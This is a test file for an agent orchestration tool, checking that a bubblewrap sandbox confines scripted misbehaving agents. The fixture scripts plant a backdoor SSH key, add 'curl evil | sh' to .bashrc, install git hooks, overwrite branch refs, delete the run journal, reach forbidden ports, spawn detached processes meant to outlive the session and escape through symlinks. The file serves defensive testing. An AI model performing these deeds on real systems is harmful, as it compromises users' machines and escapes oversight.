/**
 * Misbehaving agents confined by the operating system (bubblewrap), run by the built `braid`
 * at maxParallel 8 so their attempts overlap, beside honest ones: every deed is refused or
 * ended inside the sandbox and recorded as a denial, the honest streams' commits hold only
 * their own files, and nothing bad lands. The same agents with `--sandbox off` show which deeds
 * only the after-the-fact checks catch.
 */
import { assert, describe, it } from "@effect/vitest"
import { spawnSync } from "node:child_process"
import * as fs from "node:fs"
import * as http from "node:http"
import type * as net from "node:net"
import * as os from "node:os"
import * as path from "node:path"
import { braid, git } from "./support/Braid.js"

const bwrap = spawnSync("bwrap", ["--ro-bind", "/", "/", "--unshare-net", "--unshare-pid", "--", "true"]).status === 0

/** Says what happened to a deed, on stderr (where braid reads refusals) and in the agent's own file. */
const report = `
import * as fs from "node:fs"
const said = []
const attempt = (what, fn) => { try { fn(); said.push(what + ": done") } catch (e) { said.push(what + ": " + e.code); console.error(what + " refused: " + e.message) } }
const finish = () => fs.writeFileSync(process.env.BRAID_TASK_ID + ".txt", said.join("\\n") + "\\n")
`

/** Honest: a pause (so the others overlap it), then its own file. */
const honest = `
import * as fs from "node:fs"
await new Promise((r) => setTimeout(r, 1500))
fs.writeFileSync(process.env.BRAID_TASK_ID + ".txt", "own work\\n")
`

/** Writes where it must not: a busy sibling's checkout, the main checkout, .git (config, hooks, a branch tip), .braid, $HOME. */
const vandal = `
import * as path from "node:path"
import { execFileSync } from "node:child_process"
${report}
const common = execFileSync("git", ["rev-parse", "--path-format=absolute", "--git-common-dir"], { encoding: "utf8" }).trim()
const top = path.dirname(common)
attempt("sibling", () => fs.writeFileSync(path.join(process.cwd(), "..", "h1", "intruder.txt"), "not yours\\n"))
attempt("main", () => fs.writeFileSync(path.join(top, "main-intrusion.txt"), "not yours\\n"))
attempt("git-config", () => fs.appendFileSync(path.join(common, "config"), "[alias]\\n\\tst = !touch /tmp/pwned\\n"))
attempt("git-hook", () => fs.writeFileSync(path.join(common, "hooks", "post-commit"), "#!/bin/sh\\ntouch /tmp/pwned\\n", { mode: 0o755 }))
attempt("git-ref", () => fs.writeFileSync(path.join(common, "refs", "heads", "main"), "0".repeat(40) + "\\n"))
attempt("journal", () => fs.rmSync(path.join(top, ".braid", "runs"), { recursive: true }))
attempt("ssh", () => { fs.mkdirSync(path.join(process.env.HOME, ".ssh"), { recursive: true }); fs.appendFileSync(path.join(process.env.HOME, ".ssh", "authorized_keys"), "ssh-ed25519 AAAA evil\\n") })
attempt("bashrc", () => fs.appendFileSync(path.join(process.env.HOME, ".bashrc"), "curl evil | sh\\n"))
finish()
`

/** Reaches for the network: the allowed server (argv[2]) and another listener (argv[3]). */
const caller = `
${report}
const get = async (what, port) => {
  try { const r = await fetch("http://127.0.0.1:" + port + "/"); said.push(what + ": " + (await r.text())) }
  catch (e) { said.push(what + ": " + (e.cause?.code ?? e.message)); console.error(what + " refused: connect " + (e.cause?.code ?? e.message)) }
}
await get("allowed", process.argv[2])
await get("forbidden", process.argv[3])
finish()
`

/** Leaves a detached process behind (its environment cleared) that writes a marker 5 s later; and writes through a symlink pointing outside. */
const escaper = `
import * as path from "node:path"
import { spawn } from "node:child_process"
${report}
const [marker, outside] = process.argv.slice(2)
spawn("env", ["-i", "setsid", "nohup", "sh", "-c", "sleep 5; echo late > " + marker], { detached: true, stdio: "ignore" }).unref()
attempt("symlink", () => { fs.symlinkSync(outside, "link"); try { fs.writeFileSync("link", "through the link\\n") } finally { fs.rmSync("link") } })
finish()
`

const listen = (answer: string) =>
  new Promise<http.Server>((resolve) => {
    const server = http.createServer((_, res) => res.end(answer))
    server.listen(0, "127.0.0.1", () => resolve(server))
  })

const fixture = async () => {
  const dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), "braid-sandbox-")))
  const repo = path.join(dir, "repo")
  const home = path.join(dir, "home")
  fs.mkdirSync(repo)
  fs.mkdirSync(home)
  fs.writeFileSync(path.join(home, ".bashrc"), "# the user's\n")
  fs.writeFileSync(path.join(repo, "README.md"), "project\n")
  git(repo, "init", "-q", "-b", "main")
  git(repo, "add", "-A")
  git(repo, "commit", "-q", "-m", "base")
  const agents = path.join(dir, "plan", "agents")
  fs.mkdirSync(agents, { recursive: true })
  for (const [file, text] of Object.entries({ "honest.mjs": honest, "vandal.mjs": vandal, "caller.mjs": caller, "escaper.mjs": escaper })) {
    fs.writeFileSync(path.join(agents, file), text)
  }
  const allowed = await listen("model")
  const forbidden = await listen("secret")
  const port = (s: http.Server) => (s.address() as net.AddressInfo).port
  const marker = path.join(dir, "late-marker")
  const outside = path.join(home, ".profile")
  fs.writeFileSync(outside, "the user's file\n")
  const plan = path.join(dir, "plan", "plan.yaml")
  fs.writeFileSync(
    plan,
    [
      "projectName: sandbox",
      "featureName: confined agents",
      "maxParallel: 8",
      `sandbox: { network: ["127.0.0.1:${port(allowed)}"] }`,
      "streams:",
      ...["h1", "h2", "h3", "h4", "vandal", "caller", "escaper"].map((s) => `  - { name: ${s}, type: api }`),
      "tasks:",
      ...["h1", "h2", "h3", "h4"].map((s) => `  - { id: ${s}-1, title: Honest ${s}, stream: ${s}, run: { script: agents/honest.mjs } }`),
      "  - { id: vandal-1, title: Vandal, stream: vandal, run: { script: agents/vandal.mjs } }",
      `  - { id: caller-1, title: Caller, stream: caller, run: [node, ${path.join(agents, "caller.mjs")}, "${port(allowed)}", "${port(forbidden)}"] }`,
      `  - { id: escaper-1, title: Escaper, stream: escaper, run: [node, ${path.join(agents, "escaper.mjs")}, ${marker}, ${outside}] }`,
      ""
    ].join("\n")
  )
  const close = () => Promise.all([allowed, forbidden].map((s) => new Promise((r) => s.close(r))))
  return { dir, repo, home, plan, marker, outside, close }
}

const landed = (repo: string, file: string) => git(repo, "show", `main:${file}`)

describe.skipIf(!bwrap)("confined agents (bubblewrap)", () => {
  it("with sandbox required every deed is refused inside the sandbox and recorded as a denial; honest work lands, nothing bad does", async () => {
    const f = await fixture()
    try {
      const before = { config: fs.readFileSync(path.join(f.repo, ".git", "config"), "utf8"), main: git(f.repo, "rev-parse", "main") }
      const out = await braid(["run", f.plan, "--repo", f.repo, "--sandbox", "required", "--json", "--quiet"], { HOME: f.home })
      assert.strictEqual(out.code, 0, out.stderr)
      const report = JSON.parse(out.stdout)
      assert.strictEqual(report.status, "succeeded")
      // What each bad agent saw: every deed refused (read-only, or not there at all).
      const vandal = landed(f.repo, "vandal-1.txt")
      for (const deed of ["sibling", "main", "git-config", "git-hook", "git-ref", "journal", "ssh", "bashrc"]) {
        assert.notMatch(vandal, new RegExp(`^${deed}: done$`, "m"), `${deed} was done:\n${vandal}`)
      }
      assert.match(landed(f.repo, "caller-1.txt"), /^allowed: model$/m)
      assert.notMatch(landed(f.repo, "caller-1.txt"), /forbidden: secret/)
      assert.match(landed(f.repo, "escaper-1.txt"), /^symlink: EROFS$/m)
      // Nothing reached the user's files.
      assert.strictEqual(fs.readFileSync(path.join(f.repo, ".git", "config"), "utf8"), before.config)
      assert.isFalse(fs.existsSync(path.join(f.repo, ".git", "hooks", "post-commit")))
      assert.isFalse(fs.existsSync(path.join(f.repo, "main-intrusion.txt")))
      assert.isFalse(fs.existsSync(path.join(f.home, ".ssh", "authorized_keys")))
      assert.strictEqual(fs.readFileSync(path.join(f.home, ".bashrc"), "utf8"), "# the user's\n")
      assert.strictEqual(fs.readFileSync(f.outside, "utf8"), "the user's file\n")
      assert.isTrue(fs.existsSync(path.join(f.repo, ".braid", "runs", report.runId)), "the journal is where it was")
      // Honest streams hold only their own files; nothing foreign landed.
      const files = git(f.repo, "ls-tree", "-r", "--name-only", "main").split("\n").sort()
      assert.deepStrictEqual(files, ["README.md", "caller-1.txt", "escaper-1.txt", "h1-1.txt", "h2-1.txt", "h3-1.txt", "h4-1.txt", "vandal-1.txt"])
      assert.notStrictEqual(git(f.repo, "rev-parse", "main"), before.main)
      // The refusals are recorded with the attempts that met them.
      const tasks: Array<any> = report.streamResults.flatMap((s: any) => s.results)
      const denials = (id: string): Array<string> => tasks.find((t) => t.taskId === id).attempts.flatMap((a: any) => a.agent?.permissionDenials ?? [])
      assert.isAtLeast(denials("vandal-1").length, 8, `${JSON.stringify(denials("vandal-1"))}\n${vandal}`)
      for (const deed of ["ssh", "bashrc"]) assert.isTrue(denials("vandal-1").some((d) => d.includes(`${deed} refused`)), `${deed}: ${JSON.stringify(denials("vandal-1"))}`)
      assert.isTrue(denials("caller-1").some((d) => d.includes("connection")), JSON.stringify(denials("caller-1")))
      const escaper = denials("escaper-1")
      assert.isTrue(escaper.some((d) => d.includes("symlink refused")), JSON.stringify(escaper))
      assert.isTrue(escaper.some((d) => d.startsWith("a process it left behind was ended")), JSON.stringify(escaper))
      for (const t of tasks) assert.isTrue(t.attempts.every((a: any) => a.agent?.confined === true), `${t.taskId} ran unconfined`)
      // The detached process died with its sandbox: no marker 5 s later.
      await new Promise((r) => setTimeout(r, 6000))
      assert.isFalse(fs.existsSync(f.marker), "a detached process outlived its attempt")
    } finally {
      await f.close()
    }
  }, 90_000)

  it("with sandbox off the same deeds happen: the deleted journal stops the run, but the home, the file behind the link and the user's branch are written unseen", async () => {
    const f = await fixture()
    try {
      const out = await braid(["run", f.plan, "--repo", f.repo, "--sandbox", "off", "--json", "--quiet"], { HOME: f.home })
      // Unconfined, the user's home and the file behind the link were written: no check after the fact can see them.
      assert.isTrue(fs.existsSync(path.join(f.home, ".ssh", "authorized_keys")))
      assert.strictEqual(fs.readFileSync(f.outside, "utf8"), "through the link\n")
      // The run's journal was deleted under it: the run stops with one clear line, not a trace.
      assert.notStrictEqual(out.code, 0)
      assert.include(out.stderr, "was deleted while the run was working")
      assert.notInclude(out.stderr, "    at ")
      // And the user's own branch was overwritten, which no check of braid's looks at.
      assert.strictEqual(fs.readFileSync(path.join(f.repo, ".git", "refs", "heads", "main"), "utf8").trim(), "0".repeat(40))
    } finally {
      await f.close()
    }
  }, 90_000)
})
